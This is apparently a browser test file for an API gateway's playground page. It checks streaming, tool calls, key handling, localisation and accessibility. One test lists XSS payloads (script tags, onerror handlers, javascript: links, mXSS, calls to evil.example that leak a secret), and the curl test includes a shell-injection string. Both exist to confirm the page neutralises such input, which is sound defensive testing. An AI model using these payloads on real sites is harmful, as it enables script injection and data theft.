/**
 * The page at `/` in headless Chromium: the whole way of somebody who comes here for the first time.
 * Every visit fails if the page asks another host, breaks its policy, or throws.
 */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { after, before, beforeEach } from "node:test";
import { promisify } from "node:util";

import { paths } from "../../upstream/paths.mjs";
import { BAD_KEY, KEY, MODEL, THINKER, startStack } from "../support.mjs";
import { check, isThere, openChromium } from "./chromium.mjs";
import { ask, textOf, visit } from "./visit.mjs";

let stack, browser;

before(async () => {
  if (!isThere) return;
  stack = await startStack({ vars: { AUTO_MODELS: "off" } });
  browser = await openChromium();
});
beforeEach(() => stack?.upstream.reset());
after(async () => {
  await browser?.close();
  await stack?.close();
});

/** A visit of somebody who has put the key in. */
const visitWithKey = (body, options) =>
  visit(browser, stack.url, async (page, context) => {
    await page.fill("#key", KEY);
    await body(page, context);
  }, options);

/** What DeGPT was asked last. */
const lastChat = () => stack.upstream.requests.filter(({ path }) => path === paths.chat).at(-1)?.body;

/** A red dot, as a PNG. */
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC", "base64");

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
const [DESKTOP, PHONE] = [{ width: 1280, height: 900 }, { width: 360, height: 740 }];

check("key, question, and the answer as it comes, with what it took", async () => {
  await visitWithKey(async (page) => {
    assert.match(await textOf(page, "#key-hint"), /Kept in this tab/);
    await page.selectOption("#model", MODEL);
    stack.upstream.queue({ chunkCount: 12, paceMs: 120 });
    await page.fill("#question", "Count for me.");
    await page.press("#question", "Enter");
    const lengths = new Set();
    while (await page.locator(".answer.busy").count()) {
      lengths.add((await page.locator(".answer .markdown").innerText()).length);
      await page.waitForTimeout(40);
    }
    assert.ok(lengths.size >= 4, `seen in ${[...lengths]}`);
    assert.equal(await textOf(page, ".question .words"), "Count for me.");
    const facts = await textOf(page, ".answer .facts");
    assert.match(facts, /first byte \d+/);
    assert.match(facts, /\d(\.\d)? s in all/);
    assert.match(facts, /\d+ \+ \d+ tokens/);
    assert.match(facts, /tokens\/s/);
    assert.equal(await textOf(page, ".answer h3"), "DeepSeek V3.1");
    assert.equal(lastChat().messages.at(-1).content, "Count for me.");

    await ask(page, "And again?");
    assert.deepEqual(lastChat().messages.map(({ role }) => role), ["user", "assistant", "user"]);
    await page.click("#fresh");
    assert.equal(await page.locator(".turn").count(), 0);
    await ask(page, "Anew.");
    assert.equal(lastChat().messages.length, 1);
  });
});

check("the curl that is copied is what was sent, and works in a shell", async () => {
  await visitWithKey(async (page, context) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.selectOption("#model", MODEL);
    const sent = page.waitForRequest(/chat\/completions/);
    stack.upstream.queue({ text: "Said twice." });
    await ask(page, "It's \"quoted\" $HOME `id` \\ \nJSON\n中文");
    await page.click("#copy-curl");
    assert.equal(await textOf(page, "#copy-curl"), "Copied");
    const command = await page.evaluate(() => navigator.clipboard.readText());
    assert.ok(command.includes((await sent).postData()));
    assert.ok(!command.includes(KEY), "the key is not in it");

    stack.upstream.queue({ text: "Said twice." });
    const { stdout } = await promisify(execFile)("bash", ["-c", command], { env: { PATH: process.env.PATH, API_KEY: KEY } });
    assert.match(stdout, /data: \[DONE\]\n\n$/);
    assert.equal([...stdout.matchAll(/"content":"([^"]*)"/g)].map(([, piece]) => piece).join(""), "Said twice.");
    assert.equal(lastChat().messages[0].content, "It's \"quoted\" $HOME `id` \\ \nJSON\n中文");
  });
});

check("a picture that is chosen, pasted or dropped goes along", async () => {
  await visitWithKey(async (page) => {
    await page.selectOption("#model", "gpt-5.1");
    await page.setInputFiles("#picture", { name: "dot.png", mimeType: "image/png", buffer: PNG });
    await page.locator("#thumbs li").waitFor();
    for (const type of ["paste", "drop"]) {
      await page.evaluate(([type, bytes]) => {
        const transfer = new DataTransfer();
        transfer.items.add(new File([new Uint8Array(bytes)], `${type}.png`, { type: "image/png" }));
        const init = { bubbles: true, cancelable: true };
        const event = type === "paste" ? new ClipboardEvent(type, { ...init, clipboardData: transfer }) : new DragEvent(type, { ...init, dataTransfer: transfer });
        document.getElementById("question").dispatchEvent(event);
      }, [type, [...PNG]]);
    }
    await page.locator("#thumbs li").nth(2).waitFor();
    await page.getByRole("button", { name: "Remove paste.png" }).click();
    assert.equal(await page.locator("#thumbs li").count(), 2);

    await ask(page, "What is this?");
    const parts = lastChat().messages[0].content;
    assert.equal(parts.filter(({ type }) => type === "image_url").length, 2);
    assert.ok(JSON.stringify(parts).includes(PNG.toString("base64")));
    assert.equal(await page.locator(".question img").count(), 2);
    assert.equal(await page.locator(".question img").first().evaluate((image) => image.naturalWidth), 1);
    assert.equal(await page.locator("#thumbs li").count(), 0);
    assert.match(await textOf(page, "#curl"), /data:image\/png;base64,[\w+/]{24}… \(1 KB\)/);

    await page.setInputFiles("#picture", { name: "text.txt", mimeType: "text/plain", buffer: Buffer.from("x") });
    assert.match(await textOf(page, "#question-keys"), /text\.txt is not a picture/);
  });
});

check("stopping ends the answer at DeGPT too, and what came of it stays", async () => {
  await visitWithKey(async (page) => {
    await page.selectOption("#model", MODEL);
    for (const how of [() => page.click("#stop"), () => page.keyboard.press("Escape")]) {
      stack.upstream.queue({ chunkCount: 400, paceMs: 40 });
      await page.fill("#question", "Go on for long.");
      await page.press("#question", "Enter");
      await page.waitForFunction(() => [...document.querySelectorAll(".answer .markdown")].at(-1).innerText.length > 10);
      await how();
      await page.waitForSelector(".answer:last-child:not(.busy)");
      assert.match(await textOf(page, ".answer"), /You stopped it\./);
      assert.ok((await textOf(page, ".answer .markdown")).length > 10);
      await page.waitForFunction(() => !document.getElementById("send").hidden);
    }
    const deadline = Date.now() + 5_000;
    while (stack.upstream.stats.aborted < 2 && Date.now() < deadline) await page.waitForTimeout(50);
    assert.equal(stack.upstream.stats.aborted, 2, JSON.stringify(stack.upstream.stats));
    await ask(page, "Enough?");
    assert.deepEqual(lastChat().messages.map(({ role }) => role), ["user", "assistant", "user", "assistant", "user"]);
  });
});

check("an error is told in words, with the gateway's own and the request's id, and can be tried again", async () => {
  await visit(browser, stack.url, async (page) => {
    assert.match(await textOf(page, "#key-hint"), /wants a key/);
    await page.selectOption("#model", MODEL);
    for (const [key, said] of [["", /No API key came/], [BAD_KEY, /not one of this deployment's/]]) {
      await page.fill("#key", key);
      await ask(page, "Hello?");
      const trouble = await textOf(page, ".answer .trouble");
      assert.match(trouble, /The key is missing or wrong\./);
      assert.match(trouble, said);
      assert.match(trouble, /Request \w{8,}/);
    }
    await page.fill("#key", KEY);
    for (const [fault, said] of [[{ fault: "declined", times: 2 }, /DeGPT gave no answer/], [{ fault: 429 , times: 2 }, /A limit is reached/], [{ chunkCount: 9, breakAfter: 4 }, /broke the answer off/]]) {
      stack.upstream.queue(fault);
      await ask(page, "Hello?");
      assert.match(await textOf(page, ".answer .trouble"), said);
      stack.upstream.reset();
    }
    assert.ok((await textOf(page, ".answer .markdown")).length > 5, "what came stays");
    stack.upstream.queue({ text: "Now it works." });
    await page.locator(".answer").last().getByRole("button", { name: "Try again" }).click();
    await page.waitForSelector(".answer:last-child:not(.busy) .facts");
    assert.equal(await textOf(page, ".answer .markdown"), "Now it works.");
  });
});

check("a gateway that is gone is told in words", async () => {
  const brief = await startStack();
  await visit(browser, brief.url, async (page) => {
    await page.fill("#key", KEY);
    await brief.close();
    await ask(page, "Hello?");
    assert.match(await textOf(page, ".answer .trouble"), /The gateway cannot be reached/);
    await page.click("#check");
    await page.waitForSelector("#check:not(:disabled)");
    assert.match(await textOf(page, "#findings"), /The gateway cannot be reached/);
  }, { errors: /net::ERR_/ });
});

check("reasoning is folded, and its tokens are told", async () => {
  await visitWithKey(async (page) => {
    await page.selectOption("#model", THINKER);
    stack.upstream.queue({ reasoning: "First I think.", text: "Then I answer." });
    await ask(page, "Think.");
    const details = page.locator(".answer details.reasoning");
    assert.equal(await details.getAttribute("open"), null);
    assert.equal(await page.locator(".thoughts").isVisible(), false);
    await details.locator("summary").click();
    assert.equal(await textOf(page, ".thoughts"), "First I think.");
    assert.equal(await textOf(page, ".answer .markdown"), "Then I answer.");
    assert.match(await textOf(page, ".facts"), /\d+ of them reasoning/);
  });
});

check("a call of a tool is shown, and its result goes back", async () => {
  await visitWithKey(async (page) => {
    await page.selectOption("#model", MODEL);
    await page.click(".options summary");
    await page.fill("#tools", "{");
    assert.match(await textOf(page, "#tools-hint"), /not a JSON list/);
    await page.fill("#question", "Not sent.");
    await page.press("#question", "Enter");
    assert.equal(lastChat(), undefined);
    await page.click("#example-tool");
    await page.fill("#system", "Be brief.");
    await page.fill("#limit", "200");
    stack.upstream.queue({ text: '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris"}}\n</tool_call>' }, { text: "It rains." });
    await ask(page, "The weather in Paris?");
    assert.equal(await textOf(page, ".call .what"), "Calls get_weather");
    assert.deepEqual(JSON.parse(await textOf(page, ".call pre")), { city: "Paris" });
    assert.match(await textOf(page, "#curl"), /"max_completion_tokens": 200/);
    await page.fill(".call textarea", "rain");
    await page.getByRole("button", { name: "Send the results" }).click();
    await page.waitForFunction(() => document.querySelectorAll(".answer:not(.busy)").length === 2);
    assert.equal(await textOf(page, ".answer .markdown"), "It rains.");
    assert.match(JSON.stringify(lastChat().messages), /rain/);
    assert.match(JSON.stringify(lastChat().messages[0]), /Be brief\./);
  });
});

check("an answer is text: nothing in it runs, loads or disguises itself", async () => {
  const attacks = [
    '<script>window.pwned = "script"</script>',
    '<img src=x onerror="window.pwned = \'onerror\'">',
    "<svg onload=\"window.pwned='svg'\"><a href=\"javascript:pwned=1\">x</a></svg>",
    "[click](javascript:window.pwned='link')",
    "[click](JaVaScRiPt:window.pwned='link2')",
    "[data](data:text/html,<script>window.pwned='data'</script>)",
    "[vb](vbscript:msgbox)",
    "![remote](https://evil.example/collect?secret=1)",
    "![here](/api/v1/models)",
    "![svg](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a](x\"onerror=\"window.pwned='alt')",
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=key><button>Send the key</button></form>',
    '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><a id=key name=key href=x>clobber</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned='mxss'>",
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "| a |\n|---|\n| <img src=https://evil.example/t> |",
    "<https://evil.example/auto>",
  ];
  await visitWithKey(async (page) => {
    await page.selectOption("#model", THINKER);
    stack.upstream.queue({ reasoning: attacks[1], text: attacks.join("\n\n") });
    await ask(page, attacks[0]);
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    const found = await page.evaluate(() => {
      const box = document.querySelector(".answer");
      const all = [...box.querySelectorAll("*")];
      return {
        forbidden: all.map(({ localName }) => localName).filter((name) => /^(script|iframe|object|embed|form|input|style|link|meta|base|svg|math|img)$/.test(name)),
        handlers: all.flatMap((element) => element.getAttributeNames()).filter((name) => /^on|^style$|^id$|^name$/.test(name)),
        links: [...box.querySelectorAll("a")].map((link) => [link.protocol, link.target, link.rel].join(" ")),
        text: box.innerText,
      };
    });
    assert.deepEqual(found.forbidden, []);
    assert.deepEqual(found.handlers, []);
    assert.ok(found.links.length >= 2, "harmless links stay links");
    for (const link of found.links) assert.ok(/^(?:https: |: )_blank noopener noreferrer$/.test(link), link);
    assert.ok(found.text.includes('<script>window.pwned = "script"</script>'), "HTML is shown as text");
    assert.ok(await page.locator("#key").isVisible());
    assert.equal(await page.locator(".question .words").innerText(), attacks[0]);
  });
});

check("Markdown is shown as such, and code can be copied", async () => {
  await visitWithKey(async (page, context) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.selectOption("#model", MODEL);
    const dot = `data:image/png;base64,${PNG.toString("base64")}`;
    stack.upstream.queue({ text: `# Head\n\n| a | b |\n|:-:|---|\n| 1 | **2** |\n\n- [x] done\n- item\n\n\`\`\`js\nlet x = "<b>";\n\`\`\`\n\n![dot](${dot})`, paceMs: 3 });
    await ask(page, "Markdown, please.");
    const count = (selector) => page.locator(`.answer ${selector}`).count();
    assert.deepEqual([await count("h4"), await count("table td strong"), await count("ul li"), await count("pre code"), await count("img")], [1, 1, 2, 1, 1]);
    assert.match(await textOf(page, ".answer ul"), /☑ done/);
    await page.locator(".answer .code-head button").click();
    assert.equal((await page.evaluate(() => navigator.clipboard.readText())).trim(), 'let x = "<b>";');
    await page.locator(".answer .facts button").click();
    assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^# Head\n/);
  });
});

check("addresses and settings are copied, with the key only if it is wanted", async () => {
  await visitWithKey(async (page, context) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    for (const [index, base] of ["/api/v1", "/api/v1", "/api"].entries()) {
      await page.locator("#addresses button").nth(index).click();
      assert.equal(await clipboard(), stack.url + base);
    }
    const tabs = page.getByRole("tab");
    for (let index = 0; index < (await tabs.count()); index += 1) {
      await tabs.nth(index).click();
      assert.ok((await textOf(page, "#panel")).includes(stack.url), await tabs.nth(index).innerText());
    }
    await page.getByRole("tab", { name: "Codex" }).click();
    await page.locator("#panel button").click();
    assert.match(await clipboard(), new RegExp(`base_url = "${stack.url}/api/v1"`));
    await page.getByRole("tab", { name: "Claude Code" }).click();
    await page.locator("#panel button").click();
    assert.match(await clipboard(), /ANTHROPIC_AUTH_TOKEN=YOUR_API_KEY/);
    await page.check("#with-key");
    await page.locator("#panel button").click();
    assert.match(await clipboard(), new RegExp(`ANTHROPIC_AUTH_TOKEN=${KEY}`));
    await page.getByRole("tab", { name: "Cherry Studio" }).click();
    await page.getByRole("button", { name: "Copy API Host" }).click();
    assert.equal(await clipboard(), `${stack.url}/api`);
  });
});

check("the models have marks, can be found, and used", async () => {
  await visitWithKey(async (page) => {
    const list = page.locator("#list li");
    const all = await list.count();
    assert.ok(all > 20);
    assert.equal(await textOf(page, "#models-count"), `${all} models`);
    assert.match(await list.filter({ hasText: "deepseek-reasoner" }).innerText(), /Live[\s\S]*Tier 2[\s\S]*Reasoning/);
    assert.match(await list.filter({ hasText: "GPT o3" }).innerText(), /not offered now[\s\S]*Tier 3[\s\S]*Pictures[\s\S]*Reasoning/);
    await page.fill("#filter", "claude think");
    assert.equal(await list.count(), 2);
    await page.getByRole("button", { name: "Live", exact: true }).click();
    assert.equal(await list.count(), 1);
    await page.getByRole("button", { name: /^Use Claude 4.5 Sonnet Thinking/ }).click();
    assert.equal(await page.locator("#model").inputValue(), "claude-sonnet-4-5-20250929-think");
    assert.equal(await page.evaluate(() => document.activeElement.id), "question");
    await page.selectOption("#model", MODEL);
    assert.match(await textOf(page, "#model-hint"), /takes no pictures/);
  });
});

check("the self-check says in words what is wrong, and what was not tried for it", async () => {
  await visit(browser, stack.url, async (page) => {
    const findings = async () => {
      await page.click("#check");
      await page.waitForSelector("#check:not(:disabled)");
      return page.locator("#findings li").allInnerTexts();
    };
    let [gateway, key, upstream, model] = await findings();
    assert.match(gateway, /The gateway answers/);
    assert.match(key, /key is missing or wrong[\s\S]*No API key came/);
    assert.match(upstream, /DeGPT answers/);
    assert.match(model, /Not tried/);
    await page.fill("#key", BAD_KEY);
    [, key] = await findings();
    assert.match(key, /not one of this deployment's/);
    await page.fill("#key", KEY);
    await page.selectOption("#model", MODEL);
    [, key, , model] = await findings();
    assert.match(key, /knows your key/);
    assert.match(model, new RegExp(`${MODEL} answered within`));
    stack.upstream.queue({ fault: "declined", times: 2 });
    [, , , model] = await findings();
    assert.match(model, /DeGPT gave no answer/);
  });
});

check("DeGPT being down, and a gateway without keys, are told", async () => {
  const bare = await startStack({ vars: { API_KEYS: undefined } });
  bare.upstream.down({ path: paths.config, fault: 500 });
  try {
    await visit(browser, bare.url, async (page) => {
      await page.waitForSelector("#health.wrong");
      assert.equal(await textOf(page, "#health"), "DeGPT does not answer");
      assert.match(await textOf(page, "#key-hint"), /has no keys yet/);
      await page.click("#check");
      await page.waitForSelector("#check:not(:disabled)");
      const [, key, upstream, model] = await page.locator("#findings li").allInnerTexts();
      assert.match(key, /has no keys yet/);
      assert.match(upstream, /DeGPT cannot be reached/);
      assert.match(model, /Not tried/);
    });
  } finally {
    await bare.close();
  }
});

check("what the key has taken is shown where the gateway keeps count, and nowhere else", async () => {
  await visitWithKey(async (page) => {
    await ask(page, "Hello?");
    await page.waitForTimeout(900);
    assert.equal(await page.locator("#usage").isVisible(), false);
    assert.equal(await page.locator("#to-usage").isVisible(), false);
  });
  const counting = await startStack({ vars: { API_KEYS: `alice=${KEY}`, KEY_POLICIES: '{"alice": {"concurrent": 8}}' } });
  try {
    for (const [viewport, colorScheme] of [[DESKTOP, "light"], [PHONE, "dark"]]) {
      await visit(browser, counting.url, async (page) => {
        assert.equal(await page.locator("#usage").isVisible(), false);
        await page.fill("#key", BAD_KEY);
        await page.waitForTimeout(900);
        assert.equal(await page.locator("#usage").isVisible(), false);
        await page.fill("#key", KEY);
        await page.locator("#usage").waitFor();
        await page.selectOption("#model", MODEL);
        await ask(page, "Hello?");
        await page.waitForFunction(() => {
          document.getElementById("usage-again").click();
          return document.querySelector("#usage-models th")?.textContent;
        }, null, { polling: 300 });
        assert.match(await textOf(page, "#usage-models tr"), /^deepseek-chat\s+[12]\s+0\s+\d+\s+\d+\s+0$/);
        assert.match(await textOf(page, "#usage-sum"), /: requests [12], tokens \d+\.$/);
        assert.equal(await page.locator("#usage rect").count(), 30);
        assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), viewport.width);
        await page.evaluate(axe);
        assert.deepEqual(await page.evaluate(async () => (await window.axe.run()).violations.map(({ id }) => id)), []);
      }, { viewport, colorScheme });
    }
  } finally {
    await counting.close();
  }
});

check("the key is in this tab alone", async () => {
  await visitWithKey(async (page, context) => {
    await ask(page, "Hello?");
    const kept = await page.evaluate(() => [JSON.stringify(localStorage), document.cookie, location.href, document.documentElement.outerHTML].join("\n"));
    assert.ok(!kept.includes(KEY));
    assert.deepEqual((await context.cookies()), []);
    await page.reload();
    assert.equal(await page.locator("#key").inputValue(), KEY);
    const other = await context.newPage();
    await other.goto(`${stack.url}/`);
    assert.equal(await other.locator("#key").inputValue(), "");
    await page.click("#key-forget");
    assert.equal(await page.evaluate(() => sessionStorage.getItem("key")), null);
    await page.getByRole("button", { name: "Show" }).click();
    assert.equal(await page.locator("#key").getAttribute("type"), "text");
  });
});

check("a link can bring the key, which leaves the address, and never replaces one", async () => {
  await visit(browser, stack.url, async (page, context) => {
    const asked = [];
    context.on("request", (request) => asked.push(request.url()));
    const other = await context.newPage();
    await other.goto(`${stack.url}/#key=${KEY}%20`);
    await other.waitForSelector("#list li");
    assert.equal(await other.locator("#key").inputValue(), KEY);
    assert.equal(other.url(), `${stack.url}/`);
    await other.goto(`${stack.url}/?again#key=sk-of-somebody-else`);
    await other.waitForSelector("#list li");
    assert.equal(await other.locator("#key").inputValue(), KEY);
    assert.equal(await other.evaluate(() => history.length), 3);
    assert.ok(!asked.some((url) => new URL(url).pathname.includes("key")));
    await other.goto(`${stack.url}/#key=%`);
    await other.waitForSelector("#list li");
  });
});

check("by keyboard alone: key, model, question, stop, copy", async () => {
  await visit(browser, stack.url, async (page, context) => {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    const focused = () => page.evaluate(() => document.activeElement.id || document.activeElement.textContent.trim());
    const tabTo = async (id) => {
      for (let tries = 0; tries < 60; tries += 1) {
        await page.keyboard.press("Tab");
        if ((await focused()) === id) return;
      }
      assert.fail(`Tab does not come to ${id}`);
    };
    await page.keyboard.press("Tab");
    assert.equal(await focused(), "Skip to the question");
    await tabTo("key");
    await page.keyboard.type(KEY);
    await tabTo("question");
    await page.keyboard.type("Typed by hand");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("in two lines");
    stack.upstream.queue({ text: "Read.", paceMs: 20 });
    await page.keyboard.press("Enter");
    await page.waitForSelector(".answer:last-child:not(.busy)");
    assert.equal(lastChat().messages[0].content, "Typed by hand\nin two lines");
    assert.equal(await focused(), "question");
    assert.equal(await textOf(page, "#spoken"), "The answer is complete.");
    await tabTo("copy-curl");
    await page.keyboard.press("Enter");
    assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^curl /);
    await tabTo("tab-0");
    await page.keyboard.press("ArrowDown");
    assert.equal(await focused(), "tab-1");
    assert.match(await textOf(page, "#panel"), /^Codex/);
  });
});

check("the Enter that ends the input of Chinese does not send", async () => {
  await visitWithKey(async (page) => {
    await page.fill("#question", "你好");
    await page.evaluate(() => {
      const init = { key: "Enter", bubbles: true, cancelable: true };
      const field = document.getElementById("question");
      field.dispatchEvent(new KeyboardEvent("keydown", { ...init, isComposing: true }));
      field.dispatchEvent(new KeyboardEvent("keydown", { ...init, keyCode: 229 }));
    });
    assert.equal(await page.locator("#question").inputValue(), "你好");
    assert.equal(await page.locator(".turn").count(), 0);
  });
});

check("it speaks the browser's language, and another when asked", async () => {
  const chinese = /[\u4e00-\u9fff]/;
  for (const [locale, lang, title] of [["zh-CN", "zh-CN", "试一试"], ["zh-TW", "zh-CN", "试一试"], ["en-GB", "en", "Playground"], ["fr-FR", "en", "Playground"]]) {
    await visit(browser, stack.url, async (page) => {
      assert.equal(await page.locator("html").getAttribute("lang"), lang);
      assert.equal(await textOf(page, "#playground-title"), title);
      const isChinese = lang !== "en";
      assert.equal(chinese.test((await page.locator("main").innerText())), isChinese);
    }, { locale });
  }
  await visitWithKey(async (page) => {
    stack.upstream.queue({ text: "Hello." });
    await ask(page, "Hello?");
    await page.click("#languages [value=zh]");
    assert.match(await textOf(page, ".answer .facts"), /首字节/);
    assert.match(await textOf(page, "#key-hint"), /只保存在此标签页/);
    assert.match(await page.locator("#model option").first().innerText(), /第一个可用的模型/);
    await page.reload();
    assert.equal(await textOf(page, "#playground-title"), "试一试");
    await page.click("#languages [value=en]");
    assert.equal(await textOf(page, "#playground-title"), "Playground");
  });
});

/** Everything there is on the page, opened: a question with a picture, answers of every kind, findings. */
async function fill(page) {
  await page.click(".options summary");
  await page.click("#example-tool");
  await page.selectOption("#model", THINKER);
  stack.upstream.queue({ reasoning: "Let me see.", text: "# A\n\n| a |\n|---|\n| 1 |\n\n> b\n\n`c`\n\n```js\nd\n```\n\n[e](https://example.com)" });
  await ask(page, "Hello?");
  await page.locator(".answer details summary").click();
  await page.selectOption("#model", MODEL);
  stack.upstream.queue({ text: '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris"}}\n</tool_call>' });
  await ask(page, "The weather?");
  stack.upstream.queue({ fault: "declined", times: 2 });
  await ask(page, "And now?");
  await page.setInputFiles("#picture", { name: "dot.png", mimeType: "image/png", buffer: PNG });
  await page.locator("#thumbs li").waitFor();
  await page.click("#check");
  await page.waitForSelector("#check:not(:disabled)");
  await page.locator("#list button").first().focus();
}

for (const [name, viewport] of [["a desktop", DESKTOP], ["a phone", PHONE]]) {
  for (const colorScheme of ["light", "dark"]) {
    check(`axe-core finds nothing on ${name}, ${colorScheme}`, async () => {
      for (const [locale, prepare] of [["en-US", () => {}], ["zh-CN", fill]]) {
        await visitWithKey(async (page) => {
          await prepare(page);
          await page.evaluate(axe);
          const { violations, passes } = await page.evaluate(() => window.axe.run());
          const found = violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ target, failureSummary }) => `${target} ${failureSummary}`).join("; ")}`);
          assert.deepEqual(found, []);
          assert.ok(passes.length > 20, `${passes.length} rules`);
        }, { locale, viewport, colorScheme, isMobile: viewport === PHONE, hasTouch: viewport === PHONE });
      }
    });
  }
}

check("on a phone nothing is wider than the screen, and what is tapped is large enough", async () => {
  for (const locale of ["en-US", "zh-CN"]) {
    await visitWithKey(async (page) => {
      await fill(page);
      for (const tab of await page.getByRole("tab").all()) {
        await tab.click();
        assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360, await tab.innerText());
      }
      const small = await page.evaluate(() =>
        [...document.querySelectorAll("button, select, input, summary")].filter((element) => {
          const { width, height } = element.closest(".tick")?.getBoundingClientRect() ?? element.getBoundingClientRect();
          return width > 0 && (width < 24 || height < 24);
        }).map(({ outerHTML }) => outerHTML.slice(0, 120)));
      assert.deepEqual(small, []);
    }, { locale, viewport: PHONE, isMobile: true, hasTouch: true });
  }
});
